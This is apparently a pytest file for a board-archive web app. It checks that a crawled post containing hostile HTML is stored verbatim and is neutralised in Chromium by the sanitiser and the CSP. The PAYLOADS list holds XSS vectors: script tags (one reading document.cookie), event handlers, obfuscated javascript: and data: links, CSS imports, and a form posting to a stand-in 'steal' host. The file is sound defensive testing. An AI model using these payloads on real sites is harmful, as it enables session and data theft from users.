"""Hostile posts end to end: a demo-board post carrying script, event-handler, ``javascript:`` and
CSS payloads is crawled for real; the archive keeps it as it was (the raw page byte for byte, the
payloads in the body HTML), and the web UI shows it in Chromium without running or loading
anything: not when its links are clicked, not with the sanitiser switched off (the CSP alone)."""

from __future__ import annotations

import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from markupsafe import Markup
from sqlalchemy import Engine

from archive.contents import raw_page
from archive.web.app import serving
from archive.web.security import CSP
from board_archive.demoboard import DemoServer, generate_board
from tests.faults.helpers import crawl, versions
from tests.web.test_browser import browser  # noqa: F401 (a fixture)

EVIL = "http://203.0.113.9"
PAYLOADS = (
    "<script>window.__pwned='script';document.title='pwned'</script>",
    "<script>alert(document.cookie)</script>",
    f'<img src="{EVIL}/x.png" onerror="window.__pwned=\'onerror\'" alt="포스터">',
    '<a id="js1" href="javascript:window.__pwned=\'href\'">신청하기</a>',
    '<a id="js2" href=" JaVaScRiPt:window.__pwned=\'case\'">대소문자</a>',
    '<a id="js3" href="&#106;avascript:window.__pwned=\'entity\'">엔티티</a>',
    '<a id="js4" href="data:text/html,<script>parent.__pwned=\'data\'</script>">데이터</a>',
    '<a id="js5" onclick="window.__pwned=\'onclick\'" href="#">클릭</a>',
    f'<p style="background:url({EVIL}/bg.png);color:red" id="styled">배경 그림</p>',
    "<p style=\"width:expression(window.__pwned='expression')\">옛 IE</p>",
    f"<style>@import url({EVIL}/import.css);"
    f"body{{display:none}} #post-body{{background:url({EVIL}/style.png)}}</style>",
    f'<link rel="stylesheet" href="{EVIL}/evil.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=\'meta\'">',
    '<svg><a href="javascript:window.__pwned=\'svg\'"><text y="10">SVG</text></a></svg>',
    f'<form action="{EVIL}/steal"><button id="steal">보내기</button></form>',
)
HOSTILE_HTML = "<p>행사 안내문입니다.</p>" + "".join(PAYLOADS)
TITLE = "연말 행사 안내 (스크립트 포함)"


def _board_with_hostile_post() -> tuple[Any, int]:
    board = generate_board(12, seed=4)
    return board, board.add_post(TITLE, HOSTILE_HTML)


def test_the_archive_keeps_hostile_content_as_it_was(tmp_path: Path, engine: Engine) -> None:
    board, wr_id = _board_with_hostile_post()
    with DemoServer(board, count_views=False) as server:
        assert crawl(tmp_path, engine, server.list_url).ok
        url = f"{server.url}/bbs/board.php?bo_table=press&wr_id={wr_id}"
        with urllib.request.urlopen(url) as answer:
            served = answer.read()
    [version] = versions(engine)[str(wr_id)]
    assert version.title == TITLE
    assert raw_page(version) == served  # the raw page byte for byte
    for payload in ("<script>", "onerror=", "javascript:", "<style>", "style=", "url(", "@import"):
        assert payload in version.body_html, payload
    assert "alert(document.cookie)" in version.body_html
    assert "window.__pwned" not in version.body_text  # scripts are no text


@pytest.fixture
def hostile_site(tmp_path: Path, engine: Engine) -> Iterator[tuple[str, int]]:
    """The crawled archive (SQLite) served by uvicorn: (base URL, the post's id)."""
    board, wr_id = _board_with_hostile_post()
    with DemoServer(board) as server:
        assert crawl(tmp_path, engine, server.list_url).ok
    with serving(engine, tmp_path / "blobs") as url:
        yield url, wr_id


@pytest.fixture
def tab(browser: Any) -> Iterator[Any]:  # noqa: F811
    context = browser.new_context(viewport={"width": 1280, "height": 800}, locale="ko-KR")
    pg = context.new_page()
    pg.set_default_timeout(10_000)
    yield pg
    context.close()


def _visit(pg: Any, base_url: str, wr_id: int) -> list[str]:
    """Open the post, click every link and button of its body, hover it; the URLs of the
    requests that were sent (not those the CSP blocked before sending)."""
    requested: list[str] = []
    blocked: list[str] = []
    pg.on("request", lambda r: requested.append(r.url))
    pg.on(
        "requestfailed",
        lambda r: blocked.append(r.url) if (r.failure or "").lower() == "csp" else None,
    )
    pg.on("dialog", lambda d: d.dismiss())
    post_url = f"{base_url}/boards/press/posts/{wr_id}"
    response = pg.goto(post_url)
    assert response.headers["content-security-policy"] == CSP
    pg.wait_for_load_state("networkidle")
    for selector in [f"#post-body #js{i}" for i in range(1, 6)] + ["#post-body #steal"]:
        link = pg.locator(selector)
        if not link.count():
            continue
        link.first.click(no_wait_after=True)
        pg.wait_for_timeout(200)
        pg.wait_for_load_state()
        # a click ran nothing; a link that navigated went nowhere off the archive
        if pg.url == post_url or pg.url.startswith(post_url + "#"):
            assert pg.evaluate("() => window.__pwned") is None, selector
        else:
            assert urlsplit(pg.url).netloc == urlsplit(base_url).netloc, (selector, pg.url)
        pg.goto(post_url)
        pg.wait_for_load_state("networkidle")
    pg.hover("#post-body")
    pg.wait_for_timeout(300)
    return [u for u in requested if u not in blocked]


def _assert_nothing_ran(pg: Any, base_url: str, requested: list[str]) -> None:
    assert pg.evaluate("() => window.__pwned") is None
    assert pg.title() == f"{TITLE} · Board Archive"
    own = urlsplit(base_url).netloc
    assert requested and all(urlsplit(u).netloc == own for u in requested), requested
    # the <style> payload hid nothing and painted nothing
    assert pg.locator("#post-body").is_visible()
    assert pg.evaluate("() => getComputedStyle(document.body).display") != "none"
    background = "() => getComputedStyle(document.querySelector('#post-body')).backgroundImage"
    assert pg.evaluate(background) == "none"


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_hostile_post_runs_nothing_when_shown_and_clicked(
    tab: Any,
    hostile_site: tuple[str, int],
) -> None:
    base_url, wr_id = hostile_site
    requested = _visit(tab, base_url, wr_id)
    _assert_nothing_ran(tab, base_url, requested)
    body = tab.locator("#post-body")
    assert body.locator("script, style, link, meta, iframe, form").count() == 0
    hrefs = body.locator("a[href]").evaluate_all("els => els.map(e => e.href)")
    assert all(not h.lower().lstrip().startswith(("javascript:", "data:")) for h in hrefs), hrefs
    assert body.locator("[style], [onerror], [onclick]").count() == 0


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_the_csp_alone_stops_the_hostile_post(
    tab: Any,
    hostile_site: tuple[str, int],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """With the sanitiser switched off, the payloads are on the tab and the CSP stops them."""
    monkeypatch.setattr("archive.web.routes.posts.sanitise", lambda html, *_: Markup(html))
    base_url, wr_id = hostile_site
    requested = _visit(tab, base_url, wr_id)
    assert tab.locator("#post-body style").count() == 1
    assert tab.locator("#post-body a[href^='javascript:']").count() >= 1
    _assert_nothing_ran(tab, base_url, requested)
